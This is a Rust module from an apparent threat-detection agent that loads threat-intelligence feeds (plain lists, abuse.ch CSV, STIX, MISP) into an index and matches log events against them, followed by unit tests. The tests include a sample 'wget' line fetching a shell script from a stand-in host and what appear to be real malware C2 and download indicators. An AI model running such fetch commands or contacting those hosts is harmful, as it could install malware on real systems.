//! `detect_ioc`: threat-intelligence feeds loaded into one index, matched against the
//! parsed fields and the raw text of every event.
//!
//! Feed formats: plain lists (one indicator per line, `#` comments, type detected per
//! line), CSV (abuse.ch Feodo Tracker and URLhaus layouts with their `#` banners, or a
//! header naming the indicator column), STIX 2.1 bundles (indicator patterns comparing
//! `ipv4-addr`, `ipv6-addr`, `domain-name`, `url`, `file:hashes`, `email-addr` values;
//! each comparison joined by `OR` or `AND` is an indicator — Warden matches single
//! values, so an `AND` of two values is kept as two indicators and the hit says which),
//! MISP event JSON (attributes and object attributes with `to_ids`).
//!
//! Index: exact IPv4/IPv6 addresses in hash maps and CIDRs per prefix length (longest
//! prefix first); domains matched with every parent (`a.evil.com` hits `evil.com`);
//! URLs normalised (scheme and host lower-cased, default port and fragment dropped);
//! MD5/SHA-1/SHA-256 lower-cased; e-mail addresses lower-cased.
//!
//! Raw text is searched by a single pass that cuts the line into candidate tokens
//! (addresses, names, hex strings, e-mail addresses, URLs) and looks each up: a
//! multi-pattern search whose cost does not grow with the number of indicators.

mod formats;
mod index;
mod matcher;
mod values;

use std::path::{Path, PathBuf};
use std::sync::{Arc, RwLock};

use serde::{Deserialize, Serialize};

pub use formats::{feed_files, split_csv, stix_comparisons};
pub use index::{FeedStats, IocIndex};
pub use matcher::{IocMatcher, STATE_PREFIX, default_techniques};
pub use values::normalize_url;

/// What an indicator is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum IocKind {
    Ipv4,
    Ipv6,
    Cidr,
    Domain,
    Url,
    Md5,
    Sha1,
    Sha256,
    Email,
}

impl IocKind {
    pub fn as_str(self) -> &'static str {
        match self {
            IocKind::Ipv4 => "ipv4",
            IocKind::Ipv6 => "ipv6",
            IocKind::Cidr => "cidr",
            IocKind::Domain => "domain",
            IocKind::Url => "url",
            IocKind::Md5 => "md5",
            IocKind::Sha1 => "sha1",
            IocKind::Sha256 => "sha256",
            IocKind::Email => "email",
        }
    }
}

/// A feed's format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FeedFormat {
    #[default]
    Auto,
    Plain,
    Csv,
    Stix,
    Misp,
}

/// One feed as `feeds.toml` lists it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FeedSpec {
    pub name: String,
    /// A file or a folder (every file in it). Relative paths are inside the agent's
    /// folder; absolute ones anywhere. A missing absolute path is not an error: the
    /// feed is empty until it appears.
    pub path: String,
    #[serde(default)]
    pub format: FeedFormat,
    /// How much a hit is trusted, 0.0–1.0.
    #[serde(default = "default_confidence")]
    pub confidence: f32,
    /// ATT&CK techniques a hit stands for (`T1071` for a C2 list).
    #[serde(default)]
    pub techniques: Vec<String>,
    /// A feed on disk whose newest file is older than this is stale: a blind spot
    /// (the job that downloads it stopped). Unset: never stale.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub max_age_hours: Option<u64>,
}

fn default_confidence() -> f32 {
    0.8
}

/// The `feeds.toml` file.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FeedList {
    #[serde(default, rename = "feed")]
    pub feeds: Vec<FeedSpec>,
}

/// Where a feed's files are.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub enum FeedSource {
    /// Files built into the binary (the shipped agent folder): (path for messages, text).
    Embedded(Vec<(String, String)>),
    /// A file or folder on disk, watched for changes.
    Path(PathBuf),
}

/// A feed ready to load.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Feed {
    pub spec: FeedSpec,
    pub source: FeedSource,
}

/// The current index of an agent's feeds, replaced whole when a feed changes.
#[derive(Debug)]
pub struct FeedStore {
    feeds: Vec<Feed>,
    current: RwLock<Arc<IocIndex>>,
    metrics: Option<Arc<crate::telemetry::Metrics>>,
}

impl FeedStore {
    /// Loads the feeds now; `metrics` gets the indicator count and the reloads.
    pub fn new(feeds: Vec<Feed>, metrics: Option<Arc<crate::telemetry::Metrics>>) -> Arc<FeedStore> {
        let idx = IocIndex::load(&feeds);
        for e in &idx.errors {
            tracing::warn!("threat-intel feed: {e}");
        }
        tracing::info!(indicators = idx.len(), feeds = feeds.len(), "threat-intel feeds loaded");
        if let Some(m) = &metrics {
            m.intel_indicators.store(idx.len() as u64, std::sync::atomic::Ordering::Relaxed);
        }
        Arc::new(FeedStore { feeds, current: RwLock::new(Arc::new(idx)), metrics })
    }

    pub fn index(&self) -> Arc<IocIndex> {
        self.current.read().unwrap_or_else(|e| e.into_inner()).clone()
    }
}

impl crate::ingest::feeds::Reloadable for FeedStore {
    type Signature = Vec<(PathBuf, u64, Option<std::time::SystemTime>)>;

    /// The folders to watch for changes (a feed's folder, or the folder of a feed file).
    fn watched_dirs(&self) -> Vec<PathBuf> {
        self.feeds
            .iter()
            .filter_map(|f| match &f.source {
                FeedSource::Path(p) if p.is_dir() => Some(p.clone()),
                FeedSource::Path(p) => p.parent().map(Path::to_path_buf),
                FeedSource::Embedded(_) => None,
            })
            .collect()
    }

    /// A fingerprint of the feed files on disk (path, size, mtime).
    fn signature(&self) -> Self::Signature {
        let mut sig = Vec::new();
        for f in &self.feeds {
            if let FeedSource::Path(p) = &f.source {
                for file in feed_files(p) {
                    let md = std::fs::metadata(&file).ok();
                    sig.push((file, md.as_ref().map_or(0, |m| m.len()), md.and_then(|m| m.modified().ok())));
                }
            }
        }
        sig
    }

    /// A feed on disk with `max_age_hours` whose newest file is older (or that has no
    /// file) is a blind spot until it is updated.
    fn check(&self) {
        let Some(m) = &self.metrics else { return };
        let now = std::time::SystemTime::now();
        for f in &self.feeds {
            let (FeedSource::Path(p), Some(hours)) = (&f.source, f.spec.max_age_hours) else { continue };
            let newest =
                feed_files(p).iter().filter_map(|x| std::fs::metadata(x).and_then(|m| m.modified()).ok()).max();
            let age = newest.map(|t| now.duration_since(t).unwrap_or_default());
            let subject = format!("feed:{}", f.spec.name);
            let kind = crate::telemetry::BlindKind::FeedStale;
            match age {
                Some(a) if a.as_secs() <= hours * 3600 => {
                    m.blind_spots.clear(kind, &subject);
                }
                _ => {
                    let detail = match age {
                        Some(a) => format!(
                            "threat-intel feed `{}` was last updated {} hours ago (max_age_hours = {hours}): new \
                             indicators are not matched.",
                            f.spec.name,
                            a.as_secs() / 3600
                        ),
                        None => format!("threat-intel feed `{}` has no file in {}.", f.spec.name, p.display()),
                    };
                    m.blind_spots.raise(kind, &subject, crate::text::sanitize(&detail, 400), false);
                }
            }
        }
    }

    /// Reloads every feed and swaps the index in.
    fn reload(&self) {
        let idx = IocIndex::load(&self.feeds);
        for e in &idx.errors {
            tracing::warn!("threat-intel feed: {e}");
        }
        tracing::info!(indicators = idx.len(), "threat-intel feeds reloaded");
        if let Some(m) = &self.metrics {
            m.intel_indicators.store(idx.len() as u64, std::sync::atomic::Ordering::Relaxed);
            m.intel_reloads.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }
        *self.current.write().unwrap_or_else(|e| e.into_inner()) = Arc::new(idx);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn feed(name: &str, files: &[(&str, &str)]) -> Feed {
        Feed {
            spec: FeedSpec {
                name: name.into(),
                path: "x".into(),
                format: FeedFormat::Auto,
                confidence: 0.9,
                techniques: vec![],
                max_age_hours: None,
            },
            source: FeedSource::Embedded(files.iter().map(|(p, t)| (p.to_string(), t.to_string())).collect()),
        }
    }

    #[test]
    fn plain_lists_detect_each_kind_and_report_bad_lines() {
        let idx = IocIndex::load(&[feed(
            "local",
            &[(
                "local.txt",
                "# comment\n203.0.113.7\n198.51.100.0/24  # a network\n2001:db8::/32\nEvil.Example.COM\n\
                 http://Bad.Example.net:80/x?y=1#frag\nd41d8cd98f00b204e9800998ecf8427e\nphish@bad.example\nnot an ioc!\n",
            )],
        )]);
        let s = &idx.stats["local"];
        assert_eq!(s.indicators[&IocKind::Ipv4], 1);
        assert_eq!(s.indicators[&IocKind::Cidr], 2);
        assert_eq!(s.indicators[&IocKind::Domain], 1);
        assert_eq!(s.indicators[&IocKind::Url], 1);
        assert_eq!(s.indicators[&IocKind::Md5], 1);
        assert_eq!(s.indicators[&IocKind::Email], 1);
        assert_eq!(idx.errors.len(), 1);
        assert_eq!(idx.errors[0].to_string(), "local.txt:9: `not` is not an indicator");
        assert_eq!(idx.match_ip("198.51.100.77".parse().unwrap()).unwrap().indicator, "198.51.100.0/24");
        assert_eq!(idx.match_ip("2001:db8::1".parse().unwrap()).unwrap().indicator, "2001:db8::/32");
        assert!(idx.match_ip("198.51.101.1".parse().unwrap()).is_none());
        assert_eq!(idx.match_domain("a.b.evil.example.com").unwrap().indicator, "evil.example.com");
        assert!(idx.match_domain("notevil.example.com").is_none());
        assert!(idx.match_domain("example.com").is_none());
        assert!(idx.match_url("HTTP://bad.example.net/x?y=1").is_some());
        let text = "GET /dl?u=http://bad.example.net/x?y=1 from 203.0.113.7:4444 md5=D41D8CD98F00B204E9800998ECF8427E \
                    to <phish@bad.example> via cdn.evil.example.com.";
        let kinds: Vec<String> = idx.match_text(text).into_iter().map(|h| h.kind).collect();
        assert_eq!(kinds, ["url", "ipv4", "md5", "email", "domain"]);
    }

    #[test]
    fn most_specific_prefix_wins_and_confident_feed_owns() {
        let mut a = feed("a", &[("a.txt", "10.0.0.0/8\n10.1.0.0/16\n")]);
        a.spec.confidence = 0.5;
        let b = feed("b", &[("b.txt", "10.1.0.0/16\n")]);
        let idx = IocIndex::load(&[a, b]);
        let h = idx.match_ip("10.1.2.3".parse().unwrap()).unwrap();
        assert_eq!((h.indicator.as_str(), h.feed.as_str()), ("10.1.0.0/16", "b"));
        assert_eq!(idx.match_ip("10.9.2.3".parse().unwrap()).unwrap().indicator, "10.0.0.0/8");
        assert_eq!(idx.stats["b"].indicators[&IocKind::Cidr], 1, "counted for every feed that lists it");
    }

    #[test]
    fn csv_layouts_with_banners_and_quotes() {
        let feodo = "#####\n# abuse.ch Feodo Tracker\n#\n\"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"last_online\",\"malware\"\n\
                     \"2023-05-23 17:51:44\",\"192.9.135.73\",\"1194\",\"online\",\"2024-04-01\",\"Pikabot\"\n# END 1 entries\n";
        let urlhaus = "# URLhaus\n# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n\
                       \"1\",\"2025-04-21\",\"http://117.209.87.242:60905/bin.sh\",\"online\",\"x\",\"malware_download\",\"32-bit,elf,mips,Mozi\",\"https://urlhaus.abuse.ch/url/1/\",\"r\"\n\
                       \"2\",\"bad row\"\n";
        let idx = IocIndex::load(&[feed("feodo", &[("f.csv", feodo)]), feed("urlhaus", &[("u.csv", urlhaus)])]);
        assert_eq!(idx.stats["feodo"].indicators[&IocKind::Ipv4], 1);
        assert_eq!(idx.stats["urlhaus"].indicators[&IocKind::Url], 1);
        let h = idx.match_ip("192.9.135.73".parse().unwrap()).unwrap();
        assert_eq!(h.label.as_deref(), Some("Pikabot"));
        let h = idx.match_url("http://117.209.87.242:60905/bin.sh").unwrap();
        assert_eq!(h.label.as_deref(), Some("malware_download 32-bit,elf,mips,Mozi"));
        assert!(idx.match_url("https://urlhaus.abuse.ch/url/1/").is_none(), "the reference link is not an indicator");
        assert_eq!(idx.errors[0].to_string(), "u.csv:4: 2 columns where the header has 9");
    }

    #[test]
    fn stix_patterns() {
        let cmps = stix_comparisons(
            "[domain-name:value = 'www.x.com' OR ipv4-addr:value = '10.0.0.1'] AND [file:hashes.'SHA-256' = 'ab\\'c']",
        )
        .unwrap();
        assert_eq!(
            cmps,
            [
                ("domain-name:value".to_string(), "www.x.com".to_string()),
                ("ipv4-addr:value".into(), "10.0.0.1".into()),
                ("file:hashes.'SHA-256'".into(), "ab'c".into())
            ]
        );
        assert!(stix_comparisons("[ipv4-addr:value = '1.2.3.4'").is_err());
        assert!(stix_comparisons("ipv4-addr:value = '1.2.3.4'").is_err());
        // Found by fuzzing: an unterminated quoted key panicked; a non-ASCII value was mangled.
        assert!(stix_comparisons("[file:hashes.'SHA-256").is_err());
        let idn = stix_comparisons("[domain-name:value = 'bücher.example']").unwrap();
        assert_eq!(idn[0].1, "bücher.example");
        let bundle = r#"{"type":"bundle","objects":[
            {"type":"indicator","pattern":"[ipv4-addr:value = '198.51.100.1/32' OR url:value = 'http://x.example/a']","pattern_type":"stix"},
            {"type":"indicator","pattern":"[email-message:subject MATCHES '^x']","pattern_type":"stix"},
            {"type":"indicator","pattern":"[ipv4-addr:value = 'nope']","pattern_type":"stix"},
            {"type":"malware","name":"m"}]}"#;
        let idx = IocIndex::load(&[feed("stix", &[("b.json", bundle)])]);
        let s = &idx.stats["stix"];
        assert_eq!((s.indicators[&IocKind::Ipv4], s.indicators[&IocKind::Url], s.unsupported, s.invalid), (1, 1, 1, 1));
        let broken = IocIndex::load(&[feed("stix", &[("b.json", "{\"type\": \"bundle\",\n \"objects\": [}")])]);
        assert!(broken.errors[0].to_string().starts_with("b.json:2: not valid JSON"), "{}", broken.errors[0]);
    }

    #[test]
    fn hits_become_findings_once_an_hour_and_enrich_others() {
        let store = FeedStore::new(vec![feed("lab", &[("l.txt", "203.0.113.5\nhttp://dl.example.net/x.sh\n")])], None);
        let mut m = IocMatcher::new(store);
        let ev = |secs: i64, raw: &str| {
            let time = chrono::DateTime::from_timestamp(1_772_409_600 + secs, 0).unwrap();
            crate::ingest::parse::json::record_event(Default::default(), time, "web1".into(), "x".into(), raw.into())
        };
        let mut other =
            [crate::messages::Finding { src_ip: Some("203.0.113.5".into()), confidence: 0.5, ..Default::default() }];
        let found = m.run(&[ev(0, "wget http://DL.example.net:80/x.sh from 203.0.113.5")], &mut other);
        let kinds: Vec<(&str, &[String])> =
            found.iter().map(|f| (f.intel[0].kind.as_str(), &f.techniques[..])).collect();
        assert_eq!(kinds, [("url", &["T1105".to_string()][..]), ("ipv4", &["T1071".to_string()][..])]);
        assert_eq!(found[0].tactics, ["TA0011"]);
        assert_eq!(found[1].src_ip.as_deref(), Some("203.0.113.5"));
        assert_eq!(found[0].entity.as_deref(), Some("url:http://dl.example.net/x.sh"));
        assert_eq!(other[0].intel.len(), 1, "the batch's other findings are enriched");
        assert_eq!(other[0].confidence, 0.9);
        // Seen again within the hour: no new finding; after it: one.
        assert!(m.run(&[ev(1800, "again 203.0.113.5")], &mut []).is_empty());
        assert_eq!(m.run(&[ev(3700, "again 203.0.113.5")], &mut []).len(), 1);
        // Its state survives a restore.
        let delta = m.take_delta();
        let mut again = IocMatcher::new(m.store().clone());
        again
            .restore(delta.into_iter().filter_map(|(k, v)| Some((k[STATE_PREFIX.len()..].to_string(), v?))).collect())
            .unwrap();
        assert!(again.run(&[ev(3800, "203.0.113.5")], &mut []).is_empty());
    }

    #[test]
    fn misp_attributes_with_to_ids() {
        let ev = r#"{"Event":{"info":"op x","Attribute":[
            {"type":"ip-dst","value":"203.0.113.9","to_ids":true},
            {"type":"domain","value":"c2.example.org","to_ids":false},
            {"type":"filename|sha256","value":"a.exe|e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855","to_ids":"1"},
            {"type":"filename","value":"a.exe","to_ids":true}],
            "Object":[{"Attribute":[{"type":"url","value":"https://c2.example.org/p","to_ids":true}]}]}}"#;
        let idx = IocIndex::load(&[feed("misp", &[("e.json", ev)])]);
        let s = &idx.stats["misp"];
        assert_eq!(s.indicators.values().sum::<usize>(), 3);
        assert_eq!(s.unsupported, 1);
        assert!(idx.match_domain("c2.example.org").is_none(), "to_ids false is not an indicator");
        assert_eq!(idx.match_ip("203.0.113.9".parse().unwrap()).unwrap().label.as_deref(), Some("op x"));
    }
}
